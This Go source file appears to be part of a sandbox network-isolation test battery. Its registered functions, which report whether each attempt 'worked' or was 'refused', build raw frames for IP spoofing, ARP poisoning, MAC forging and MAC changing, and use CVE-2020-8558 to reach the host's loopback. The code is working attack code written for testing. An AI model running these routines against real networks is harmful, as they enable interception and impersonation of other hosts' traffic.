package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func init() {
	register(map[string]attack{
		"net-loopback":   hostLoopbackAttack,
		"net-spoof-ip":   spoofIPAttack,
		"net-arp-poison": arpPoisonAttack,
		"net-mac-forge":  macForgeAttack,
		"net-mac-change": macChangeAttack,
		"net-raw-socket": rawSocketAttack,
	})
}

// link is the sandbox's own interface, as a packet socket sees it.
type link struct {
	fd    int
	index int
	mac   net.HardwareAddr
	ip    netip.Addr
}

// openLink opens a packet socket on the sandbox's interface: what
// CAP_NET_RAW gives, and what the forged frames below need.
func openLink() (*link, error) {
	ifi, err := net.InterfaceByName("eth0")
	if err != nil {
		return nil, err
	}
	l := &link{index: ifi.Index, mac: ifi.HardwareAddr}
	addrs, _ := ifi.Addrs()
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() {
			l.ip = p.Addr()
		}
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return nil, err
	}
	l.fd = fd
	return l, nil
}

func (l *link) send(frame []byte) error {
	to := &unix.SockaddrLinklayer{Ifindex: l.index, Halen: 6, Protocol: htons(unix.ETH_P_ALL)}
	copy(to.Addr[:], frame[:6])
	return unix.Sendto(l.fd, frame, 0, to)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// udpFrame builds an Ethernet frame carrying a UDP datagram.
func udpFrame(dstMAC, srcMAC net.HardwareAddr, src, dst netip.Addr, port uint16, payload []byte) []byte {
	f := make([]byte, 14+20+8+len(payload))
	copy(f[0:6], dstMAC)
	copy(f[6:12], srcMAC)
	binary.BigEndian.PutUint16(f[12:], unix.ETH_P_IP)
	ip := f[14:34]
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(20+8+len(payload)))
	ip[8] = 64
	ip[9] = unix.IPPROTO_UDP
	s, d := src.As4(), dst.As4()
	copy(ip[12:16], s[:])
	copy(ip[16:20], d[:])
	binary.BigEndian.PutUint16(ip[10:], checksum(ip))
	udp := f[34:]
	binary.BigEndian.PutUint16(udp[0:], 40000)
	binary.BigEndian.PutUint16(udp[2:], port)
	binary.BigEndian.PutUint16(udp[4:], uint16(8+len(payload)))
	copy(udp[8:], payload)
	return f
}

// arpFrame builds an ARP packet (op 1 request, 2 reply).
func arpFrame(dstMAC, srcMAC net.HardwareAddr, op uint16, senderMAC net.HardwareAddr, senderIP netip.Addr, targetMAC net.HardwareAddr, targetIP netip.Addr) []byte {
	f := make([]byte, 14+28)
	copy(f[0:6], dstMAC)
	copy(f[6:12], srcMAC)
	binary.BigEndian.PutUint16(f[12:], unix.ETH_P_ARP)
	a := f[14:]
	binary.BigEndian.PutUint16(a[0:], 1)
	binary.BigEndian.PutUint16(a[2:], unix.ETH_P_IP)
	a[4], a[5] = 6, 4
	binary.BigEndian.PutUint16(a[6:], op)
	copy(a[8:14], senderMAC)
	s, t := senderIP.As4(), targetIP.As4()
	copy(a[14:18], s[:])
	copy(a[18:24], targetMAC)
	copy(a[24:28], t[:])
	return f
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

func mustMAC(s string) net.HardwareAddr {
	m, err := net.ParseMAC(s)
	if err != nil {
		fatalf("MAC %q: %v", s, err)
	}
	return m
}

func mustAddr(s string) netip.Addr {
	a, err := netip.ParseAddr(s)
	if err != nil {
		fatalf("address %q: %v", s, err)
	}
	return a
}

// hostLoopbackAttack sends a datagram to the host's 127.0.0.1:port=
// through the bridge (gwmac=): CVE-2020-8558, which route_localnet on the
// bridge lets through. Only the host can tell whether it arrived.
func hostLoopbackAttack(a args) Verdict {
	l, err := openLink()
	if err != nil {
		return refused("packet socket", err)
	}
	defer unix.Close(l.fd)
	f := udpFrame(mustMAC(a.str("gwmac")), l.mac, l.ip, netip.MustParseAddr("127.0.0.1"), uint16(a.int("port")), []byte(a.str("marker")))
	return sendRepeatedly(l, [][]byte{f}, 5, 20*time.Millisecond, "datagram to the host's 127.0.0.1")
}

// spoofIPAttack sends a datagram to the gateway (gw=, gwmac=, port=) with
// the neighbour's address (victim=) as its source.
func spoofIPAttack(a args) Verdict {
	l, err := openLink()
	if err != nil {
		return refused("packet socket", err)
	}
	defer unix.Close(l.fd)
	f := udpFrame(mustMAC(a.str("gwmac")), l.mac, mustAddr(a.str("victim")), mustAddr(a.str("gw")), uint16(a.int("port")), []byte(a.str("marker")))
	return sendRepeatedly(l, [][]byte{f}, 5, 20*time.Millisecond, "datagram from "+a.str("victim"))
}

// arpPoisonAttack tells the host, in ARP replies and gratuitous ARP, that
// the neighbour's address (victim=) is at the attacker's MAC, for 3.5s:
// the kernel ignores a new address within its lock time (1s) of an
// entry's last change, and the first forged packet is such a change (the
// entry goes stale), so an attack shorter than twice that may miss.
func arpPoisonAttack(a args) Verdict {
	l, err := openLink()
	if err != nil {
		return refused("packet socket", err)
	}
	defer unix.Close(l.fd)
	gwmac, victim, gw := mustMAC(a.str("gwmac")), mustAddr(a.str("victim")), mustAddr(a.str("gw"))
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	reply := arpFrame(gwmac, l.mac, 2, l.mac, victim, gwmac, gw)
	garp := arpFrame(bcast, l.mac, 1, l.mac, victim, bcast, victim)
	return sendRepeatedly(l, [][]byte{reply, garp}, 35, 100*time.Millisecond, "forged ARP packets for "+victim.String())
}

// macForgeAttack sends frames whose source is the neighbour's MAC
// (victimmac=), so that the bridge learns it on the attacker's port.
func macForgeAttack(a args) Verdict {
	l, err := openLink()
	if err != nil {
		return refused("packet socket", err)
	}
	defer unix.Close(l.fd)
	victim := mustMAC(a.str("victimmac"))
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	f := udpFrame(bcast, victim, l.ip, netip.MustParseAddr("255.255.255.255"), 9, []byte("battery"))
	return sendRepeatedly(l, [][]byte{f}, 5, 20*time.Millisecond, "frames from "+victim.String())
}

// sendRepeatedly sends frames rounds times, pause apart; it reports
// refused only when no frame at all went out.
func sendRepeatedly(l *link, frames [][]byte, rounds int, pause time.Duration, what string) Verdict {
	var sent int64
	var last error
	for i := 0; i < rounds; i++ {
		for _, f := range frames {
			if err := l.send(f); err != nil {
				last = err
			} else {
				sent++
			}
		}
		time.Sleep(pause)
	}
	if sent == 0 {
		return refused("send", last)
	}
	v := worked(fmt.Sprintf("sent %d: %s", sent, what))
	v.Count = sent
	return v
}

// macChangeAttack sets eth0's MAC to mac=.
func macChangeAttack(a args) Verdict {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return refused("socket", err)
	}
	defer unix.Close(fd)
	var req struct {
		name   [unix.IFNAMSIZ]byte
		family uint16
		data   [14]byte
		_      [8]byte
	}
	copy(req.name[:], "eth0")
	req.family = unix.ARPHRD_ETHER
	copy(req.data[:], mustMAC(a.str("mac")))
	if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCSIFHWADDR, uintptr(unsafe.Pointer(&req))); e != 0 {
		return refused("SIOCSIFHWADDR", e)
	}
	return worked("changed eth0's MAC to " + a.str("mac"))
}

// rawSocketAttack opens a packet socket and a raw IP socket: what forged
// frames and datagrams start from.
func rawSocketAttack(args) Verdict {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err == nil {
		unix.Close(fd)
		return worked("opened a packet socket")
	}
	fd, err2 := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err2 == nil {
		unix.Close(fd)
		return worked("opened a raw IP socket")
	}
	return refused("socket", err)
}
